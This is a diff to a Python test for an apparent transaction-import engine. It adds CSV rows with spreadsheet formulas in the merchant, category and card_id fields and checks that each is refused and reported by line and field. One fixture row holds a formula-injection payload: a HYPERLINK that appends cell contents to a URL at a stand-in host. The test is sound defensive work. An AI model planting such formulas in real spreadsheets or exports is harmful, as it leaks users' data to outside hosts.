@@ -129,12 +129,20 @@ def test_formulas_in_csv_text_are_refused_and_named(
         'T1;C-1;"=HYPERLINK(""http://evil.invalid/?""&A1;""Kuntosali"")";sports;12,50;2026-11-03T10:00',
         "T2;C-1;@SUM(A1:A9);sports;12,50;2026-11-03T10:00",
         "T3;C-1;+Kuntosali;sports;12,50;2026-11-03T10:00",
+        "T4;C-1;@SUM(A1:A9);sports;12,50;2026-11-03T10:00",  # the same again: refused again
+        "T5;C-1;Kuntosali;=1+1;12,50;2026-11-03T10:00",
+        "T6;=C-1;Kuntosali;sports;12,50;2026-11-03T10:00",
+        "T7;=C-1;Kuntosali;sports;12,50;2026-11-03T10:00",
     )
     report = _run(engine, "mobile", path)
     assert [(p.where, p.code) for p in report.refused] == [
         ("line 2, merchant", "formula"),
         ("line 3, merchant", "formula"),
         ("line 4, merchant", "formula"),
+        ("line 5, merchant", "formula"),
+        ("line 6, category", "formula"),
+        ("line 7, card_id", "formula"),
+        ("line 8, card_id", "formula"),
     ]
     assert booked(engine) == 0 and report.booked == 0
 
